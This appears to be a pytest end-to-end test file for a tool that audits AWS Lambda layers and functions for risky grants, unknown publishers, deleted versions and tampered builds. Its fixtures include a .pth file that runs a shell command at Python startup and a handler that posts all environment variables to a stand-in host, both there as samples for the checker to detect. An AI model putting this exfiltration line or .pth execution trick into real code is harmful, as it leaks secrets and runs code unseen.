"""check and verify of what lies in AWS, on the embedded cloud."""

import io
import json
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from clouds import Cloud, new_account
from running import Cli, Done

pytestmark = pytest.mark.e2e

REGION = "eu-west-1"


def zipped(files: Mapping[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path, content in files.items():
            entry = zipfile.ZipInfo(path, (2026, 1, 1, 0, 0, 0))
            entry.external_attr = 0o100644 << 16
            archive.writestr(entry, content)
    return buffer.getvalue()


class Account:
    """An account with layers and functions."""

    def __init__(self, cloud: Cloud, cli: Cli, folder: Path) -> None:
        self.id = new_account()
        self.cloud, self.cli, self.folder = cloud, cli, folder
        self.lambda_: Any = cloud.client("lambda", self.id, REGION)

    def layer(self, name: str, files: Mapping[str, str]) -> str:
        told = self.lambda_.publish_layer_version(
            LayerName=name,
            Content={"ZipFile": zipped(files)},
            CompatibleRuntimes=["python3.12"],
            CompatibleArchitectures=["x86_64"],
        )
        return str(told["LayerVersionArn"])

    def function(self, name: str, layers: list[str], code: str) -> None:
        self.lambda_.create_function(
            FunctionName=name,
            Runtime="python3.12",
            Role=f"arn:aws:iam::{self.id}:role/any",
            Handler="app.handler",
            Code={"ZipFile": zipped({"app.py": code})},
            Layers=layers,
        )

    def check(self, *arguments: str) -> Done:
        environ = self.cloud.environ(self.id)
        return self.cli(*arguments, "--region", REGION, cwd=self.folder, environ=environ)


@pytest.fixture
def account(cloud: Cloud, cli: Cli, tmp_path: Path) -> Account:
    return Account(cloud, cli, tmp_path)


GOOD = {"python/good.py": "VALUE = 1\n"}
BAD = {"python/bad.pth": "import os; os.system('true')\n"}


def test_a_version_by_arn_with_who_may_read_it(account: Account) -> None:
    arn = account.layer("data", GOOD)
    quiet = account.check("check", arn, "--output", "json")
    assert (quiet.code, quiet.json["verdict"]) == (0, "pass")
    assert "judged for python3.12/x86_64" in quiet.json["notes"]
    account.lambda_.add_layer_version_permission(
        LayerName="data", VersionNumber=1, StatementId="all", Action="lambda:GetLayerVersion", Principal="*"
    )
    public = account.check("check", arn, "--output", "json")
    assert public.code == 3
    assert [each["rule"] for each in public.json["findings"]] == ["public-grant"]


def test_a_function_with_its_layers_and_its_code(account: Account) -> None:
    layers = [account.layer("good", GOOD), account.layer("bad", BAD)]
    body = "    urllib.request.urlopen('https://x.invalid', json.dumps(dict(os.environ)).encode())\n"
    code = f"import os, json, urllib.request\ndef handler(event, context):\n{body}"
    account.function("report", layers, code)
    done = account.check("check", "--function", "report", "--output", "json")
    assert done.code == 3, done.err
    found = {(each["rule"], each["path"]) for each in done.json["findings"]}
    assert ("pth-code", "python/bad.pth") in found
    assert ("environment-sent", "/var/task/app.py") in found


def test_everything_that_functions_use(account: Account) -> None:
    used, bad = account.layer("used", GOOD), account.layer("bad", BAD)
    account.layer("unused", BAD)
    account.function("a", [used], "def handler(event, context): ...")
    account.function("b", [used, bad], "def handler(event, context): ...")
    done = account.check("check", "--all", "--output", "json")
    assert done.code == 3
    assert {each["target"]: each["verdict"] for each in done.json} == {used: "pass", bad: "block"}


def test_a_layer_of_an_account_that_is_not_known(account: Account, cloud: Cloud, cli: Cli, tmp_path: Path) -> None:
    other = Account(cloud, cli, tmp_path)
    arn = other.layer("theirs", GOOD)
    other.lambda_.add_layer_version_permission(
        LayerName="theirs", VersionNumber=1, StatementId="us", Action="lambda:GetLayerVersion", Principal=account.id
    )
    account.function("report", [arn], "def handler(event, context): ...")
    done = account.check("check", "--all", "--output", "json")
    assert [each["rule"] for each in done.json[0]["findings"]] == ["unknown-publisher"]
    assert "report" in json.dumps(done.json[0]["findings"])
    (tmp_path / "lamella.toml").write_text(f'[check]\npublishers = ["{other.id}"]\n')
    assert account.check("check", "--all").code == 0


def test_a_version_that_is_gone(account: Account) -> None:
    arn = account.layer("data", GOOD)
    account.function("report", [arn], "def handler(event, context): ...")
    account.lambda_.delete_layer_version(LayerName="data", VersionNumber=1)
    done = account.check("check", "--all", "--output", "json")
    assert done.code == 3
    assert [each["rule"] for each in done.json[0]["findings"]] == ["deleted-layer"]


def test_a_published_version_is_what_was_built(account: Account, tmp_path: Path) -> None:
    source = tmp_path / "src" / "python"
    source.mkdir(parents=True)
    (source / "own.py").write_text("VALUE = 1\n")
    (tmp_path / "lamella.toml").write_text('[layers.own]\nsource = "src/"\ntargets = ["python3.12/x86_64"]\n')
    published = account.check("publish", "own", "--apply", "--yes")
    assert published.code == 0, published.err
    arn = f"arn:aws:lambda:{REGION}:{account.id}:layer:own:1"
    assert "byte for byte" in account.check("verify", arn).out
    account.layer("own", {"python/own.py": "VALUE = 2\n"})
    replaced = account.check("verify", arn.replace(":1", ":2"), "--rebuild", "own")
    assert replaced.code == 3
    assert "python/own.py" in replaced.out


def test_what_would_not_load_is_not_published(account: Account, tmp_path: Path) -> None:
    source = tmp_path / "src" / "python"
    source.mkdir(parents=True)
    (source / "own.so").write_bytes(
        b"\x7fELF\x02\x01\x01" + bytes(9) + (3).to_bytes(2, "little") + (183).to_bytes(2, "little") + bytes(100)
    )
    (tmp_path / "lamella.toml").write_text('[layers.own]\nsource = "src/"\ntargets = ["python3.12/x86_64"]\n')
    done = account.check("publish", "own", "--apply", "--yes")
    assert done.code == 3
    assert "foreign-machine" in done.err
    assert account.lambda_.list_layer_versions(LayerName="own")["LayerVersions"] == []
